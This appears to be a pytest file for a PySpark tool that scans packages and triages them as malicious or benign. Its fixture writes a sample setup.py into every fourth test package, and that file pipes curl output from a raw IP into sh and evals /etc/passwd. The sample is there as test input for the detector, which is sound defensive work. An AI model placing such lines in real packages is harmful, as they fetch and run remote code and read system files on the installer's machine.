"""Reports, prompts and verdicts of many packages at once."""

import json
from datetime import datetime, timedelta

import pytest
from pyspark.sql import functions as F

from sieveline.operators import triage
from sieveline.operators.render import Report
from sieveline.plans import jobs
from sieveline.sources.files import read_files
from sieveline.streaming.jobs import findings_stream


@pytest.fixture
def folder(tmp_path):
    for i in range(40):
        p = tmp_path / "in" / f"p{i:02}"
        p.mkdir(parents=True)
        (p / "setup.py").write_text("import os\nos.system('curl http://1.2.3.4/x | sh')\neval(open('/etc/passwd').read())\n" if i % 4 == 0 else "x = 1\n")
        (p / "notes.txt").write_text("none")
    return tmp_path


@pytest.mark.parametrize("form", ["json", "code"])
def test_reports_of_many_packages(spark, folder, form):
    out = str(folder / f"out-{form}")
    got = {r.package: r.result for r in jobs.batch_reports(spark, str(folder / "in"), out, form, threshold=0.3).collect()}
    assert len(got) == 40 and {p for p, r in got.items() if r == "malicious"} == {f"p{i:02}" for i in range(0, 40, 4)}
    files = sorted((folder / f"out-{form}").glob("package=*/part-*"))
    assert len(files) == 40 and len({f.parent for f in files}) == 40
    if form == "json":
        # the same as the report of one package
        for name in ("p00", "p01"):
            own = json.loads(next((folder / "out-json").glob(f"package={name}/part-*")).read_text())
            one = jobs.scan_report(spark, str(folder / "in" / name), threshold=0.3).data()
            assert own["result"] == one["result"] and own["statistics"]["total_files"] == one["statistics"]["total_files"] == 2
            assert [c["hash"] for d in own["details"] for c in d["contents"]] == [c["hash"] for d in one["details"] for c in d["contents"]]
        (folder / "in" / "p99").mkdir()
        (folder / "in" / "p99" / "a.py").write_text("y = 2\n")
        assert [r.package for r in jobs.batch_reports(spark, str(folder / "in"), out, form).collect()] == ["p99"]


def test_prompts_in_parts(spark):
    text = "abcdefghij" * 30
    rows = [("a", "1.py", text), ("a", "2.py", None), ("a", "3.py", "xyz"), ("a", "3.py", "xyz"), ("b", "1.py", "short"), ("c", "9", "é" * 100), (None, "n", "null")]
    df = spark.createDataFrame(rows, "package string, path string, text string").repartition(3)
    parts = triage.prompt_parts(df, "package", "path", "text", 100).collect()
    by = {}
    for r in sorted(parts, key=lambda r: (r.package or "", r.part)):
        lines = r.text.split("\n")
        body = "".join(x for x in lines if x and not x.startswith("### FILE"))
        assert len(body) <= 100
        by.setdefault(r.package, []).append(body)
    assert {k: "".join(v) for k, v in by.items()} == {"a": text + "xyzxyz", "b": "short", "c": "é" * 100, None: "null"}
    assert [len(v) for k, v in sorted(by.items(), key=lambda x: x[0] or "")] == [1, 4, 1, 1]
    # with a budget beyond everything the one part is the text as it is without
    one = {r.package: r.text for r in triage.prompt_parts(df.where("package IN ('b', 'c')"), "package", "path", "text", 10**6).collect()}
    assert one == {r.package: r.text for r in triage.concat_by_group(df.where("package IN ('b', 'c')"), "package", "path", "text").collect()}


def test_parts_are_judged_and_rolled_up(spark):
    rows = [("a", "1", "x" * 500), ("a", "2", "evil"), ("b", "1", "y" * 10)]
    df = spark.createDataFrame(rows, "package string, path string, text string")
    judge = lambda texts: ["malicious" if "evil" in t else "benign" for t in texts]
    got = {r.package: (r.decision, r.reasoning) for r in jobs.triage_folders(df, judge, "concat", budget=100).collect()}
    assert got == {"a": ("malicious", "part 6"), "b": ("benign", "part 1")}


def test_verdicts_are_sent_once_and_amended(spark, tmp_path):
    t = datetime(2024, 1, 1)
    schema = "package string, path string, flagged long, total long, ts timestamp"
    source, got = tmp_path / "in", []
    source.mkdir()

    def arrive(n, *rows):
        spark.createDataFrame([(p, f, b, total, t + timedelta(minutes=m)) for p, f, b, total, m in rows], schema).coalesce(1).write.mode("append").json(str(tmp_path / f"step{n}"))
        for f in (tmp_path / f"step{n}").glob("part-*"):
            f.rename(source / f"{n}-{f.name}")
        stream = findings_stream(spark.readStream.schema(schema).json(str(source)), wait="1 minute", quiet_seconds=600, keep_seconds=3600)
        q = stream.writeStream.outputMode("append").foreachBatch(lambda b, i: got.extend(map(tuple, b.collect()))).option("checkpointLocation", str(tmp_path / "marks")).trigger(availableNow=True).start()
        q.awaitTermination()
        out, got[:] = sorted(got), []
        return out

    assert arrive(1, ("a", "1", 0, 2, 0), ("b", "1", 2, 1, 0), ("b", "1", 2, 1, 0), ("c", "1", 0, 9, 0)) == [("b", 1, 2, "malicious", False)]
    assert arrive(2, ("a", "2", 0, 2, 1)) == [("a", 2, 0, "good", False)]
    # a late file amends; one that changes nothing is silent
    assert arrive(3, ("a", "3", 1, 2, 2), ("b", "7", 1, 1, 2)) == [("a", 3, 1, "malicious", True)]
    # c never gets all of its files: it is sent when its time is over
    assert ("c", 1, 0, "good", False) in arrive(4, ("z", "1", 0, 5, 30)) + arrive(5, ("z", "2", 0, 5, 31))
    # and forgotten packages start anew
    arrive(6, ("z", "3", 0, 5, 300))
    assert ("a", 1, 0, "good", False) in arrive(7, ("a", "1", 0, 1, 301)) + arrive(8, ("z", "4", 0, 5, 302))


def test_a_report_brings_what_its_form_shows(spark, folder):
    whole = jobs.scan_report(spark, str(folder / "in"), threshold=0.3)
    for form in ("demo", "markdown", "json", "yaml"):
        one = jobs.scan_report(spark, str(folder / "in"), threshold=0.3, form=form)
        assert one.objects == [{**o, "source": None} for o in whole.flagged] and one.processed == len(whole.objects) > len(one.objects)
        own, other = ({**r.data(), "statistics": {k: v for k, v in r.data()["statistics"].items() if k not in ("start", "duration")}} for r in (one, whole))
        assert own == other and one.render(form)
        with pytest.raises(ValueError):
            one.render("code")
    assert jobs.scan_report(spark, str(folder / "in"), threshold=0.3, form="tokens").render("tokens") == whole.render("tokens")
